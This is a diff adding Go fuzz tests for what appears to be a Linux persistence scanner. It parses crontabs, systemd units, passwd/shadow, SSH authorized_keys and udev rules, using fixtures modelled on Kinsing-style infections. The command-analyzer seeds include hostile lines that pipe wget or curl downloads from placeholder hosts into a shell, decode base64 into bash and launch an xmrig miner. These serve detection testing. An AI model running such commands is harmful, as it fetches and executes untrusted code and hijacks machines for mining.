@@ -1,0 +1,168 @@
+package persist
+
+import (
+	"bytes"
+	"strings"
+	"testing"
+
+	"github.com/abusekit/abusekit/plugins/persist/hosttest"
+)
+
+// seeds adds the fixture files at paths as seeds.
+func seeds(f *testing.F, paths ...string) {
+	trees := []hosttest.Tree{hosttest.Kinsing(hosttest.Work32(hosttest.Debian12(), "/home/admin")), hosttest.AmazonLinux2023(), hosttest.Ubuntu2204()}
+	for _, t := range trees {
+		for _, p := range paths {
+			if e, ok := t.Get(p); ok && e.Data != "" {
+				f.Add([]byte(e.Data))
+			}
+		}
+	}
+}
+
+func lineCount(data []byte) int { return len(splitLines(data)) }
+
+func FuzzParseCrontab(f *testing.F) {
+	seeds(f, "/etc/crontab", "/etc/cron.d/e2scrub_all", "/etc/cron.d/0hourly", "/var/spool/cron/crontabs/root")
+	f.Fuzz(func(t *testing.T, data []byte) {
+		n := lineCount(data)
+		for _, system := range []bool{true, false} {
+			for _, l := range parseCrontab(data, system) {
+				if l.Line < 1 || l.Line > n {
+					t.Fatalf("line %d of %d", l.Line, n)
+				}
+				if !l.Env && l.Err == nil && !strings.Contains(l.Raw, strings.TrimSpace(l.Command)) {
+					t.Fatalf("command %q not in line %q", l.Command, l.Raw)
+				}
+			}
+		}
+		for _, l := range parseAnacrontab(data) {
+			if l.Line < 1 || l.Line > n {
+				t.Fatalf("anacron line %d of %d", l.Line, n)
+			}
+		}
+	})
+}
+
+func FuzzParseUnit(f *testing.F) {
+	seeds(f, "/usr/lib/systemd/system/ssh.service", "/etc/systemd/system/bot.service", "/etc/systemd/system/ssh.service.d/override.conf", "/usr/lib/systemd/system/amazon-ssm-agent.service")
+	f.Fuzz(func(t *testing.T, data []byte) {
+		n := lineCount(data)
+		for _, e := range parseUnit(data) {
+			if e.Line < 1 || e.Line > n || e.Key == "" {
+				t.Fatalf("entry %+v of %d lines", e, n)
+			}
+		}
+	})
+}
+
+func FuzzParsePasswd(f *testing.F) {
+	seeds(f, "/etc/passwd", "/etc/shadow")
+	f.Fuzz(func(t *testing.T, data []byte) {
+		n := lineCount(data)
+		for _, e := range parsePasswd(data) {
+			if e.Line < 1 || e.Line > n {
+				t.Fatalf("line %d of %d", e.Line, n)
+			}
+			if e.Err == nil && strings.Contains(e.Name, ":") {
+				t.Fatalf("name %q", e.Name)
+			}
+		}
+		for _, e := range parseShadow(data) {
+			if e.Line < 1 || e.Line > n || e.Name == "" {
+				t.Fatalf("shadow %+v", e)
+			}
+		}
+	})
+}
+
+func FuzzParseAuthorizedKeys(f *testing.F) {
+	seeds(f, "/root/.ssh/authorized_keys", "/home/admin/.ssh/authorized_keys", "/root/.ssh/authorized_keys2")
+	f.Fuzz(func(t *testing.T, data []byte) {
+		n := lineCount(data)
+		for _, k := range parseAuthorizedKeys(data) {
+			if k.Line < 1 || k.Line > n {
+				t.Fatalf("line %d of %d", k.Line, n)
+			}
+			if k.Err == nil && !isKeyType(k.Type) {
+				t.Fatalf("type %q accepted", k.Type)
+			}
+			_, _ = optionValue(k.Options, "command")
+		}
+	})
+}
+
+func FuzzParseHostsAndUdev(f *testing.F) {
+	seeds(f, "/etc/hosts", "/etc/udev/rules.d/99-sys.rules", "/usr/lib/udev/rules.d/99-systemd.rules", "/usr/lib/udev/rules.d/85-hwclock.rules")
+	f.Fuzz(func(t *testing.T, data []byte) {
+		n := lineCount(data)
+		for _, e := range parseHosts(data) {
+			if e.Line < 1 || e.Line > n || len(e.Names) == 0 {
+				t.Fatalf("hosts %+v", e)
+			}
+		}
+		for _, c := range parseUdevRules(data) {
+			if c.Line < 1 || c.Line > n {
+				t.Fatalf("udev %+v", c)
+			}
+		}
+	})
+}
+
+func FuzzAnalyzeCommand(f *testing.F) {
+	for _, s := range []string{"wget -q -O - http://x/y.sh | sh", "/tmp/.X11-unix/.work32 >/dev/null 2>&1", "cd / && run-parts --report /etc/cron.hourly",
+		`bash -c "$(curl -fsSL http://x/i.sh)"`, "echo aGk= | base64 -d | bash", "/dev/shm/.x/xmrig -o stratum+tcp://p:1 --donate-level 1"} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, cmd string) {
+		v := analyzeCommand(cmd)
+		if v.sev < Info || v.sev > Critical {
+			t.Fatalf("severity %v", v.sev)
+		}
+		for _, r := range v.refs {
+			if !strings.HasPrefix(r, "/") {
+				t.Fatalf("ref %q", r)
+			}
+		}
+	})
+}
+
+func FuzzDropLines(f *testing.F) {
+	f.Add([]byte("a\nb\nc\n"), 2)
+	f.Add([]byte("a\r\nb"), 2)
+	f.Add([]byte("\n\n\n"), 1)
+	f.Fuzz(func(t *testing.T, data []byte, n int) {
+		lines := splitLines(data)
+		if n < 1 || n > len(lines) {
+			if _, _, err := dropLines(data, []LineChange{{Line: n, Content: "x"}}); err == nil && (n < 1 || n > len(lines)) {
+				t.Fatalf("dropped a line that does not exist: %d of %d", n, len(lines))
+			}
+			return
+		}
+		out, removed, err := dropLines(data, []LineChange{{Line: n, Content: lines[n-1]}})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if len(removed) != 1 || removed[0].Content != lines[n-1] {
+			t.Fatalf("removed %+v", removed)
+		}
+		// Put the line back: the original bytes return exactly.
+		var b bytes.Buffer
+		rest := data
+		for i := 1; len(rest) > 0; i++ {
+			j := bytes.IndexByte(rest, '\n')
+			var l []byte
+			if j < 0 {
+				l, rest = rest, nil
+			} else {
+				l, rest = rest[:j+1], rest[j+1:]
+			}
+			if i != n {
+				b.Write(l)
+			}
+		}
+		if !bytes.Equal(b.Bytes(), out) {
+			t.Fatalf("dropLines(%q, %d) = %q, want %q", data, n, out, b.Bytes())
+		}
+	})
+}
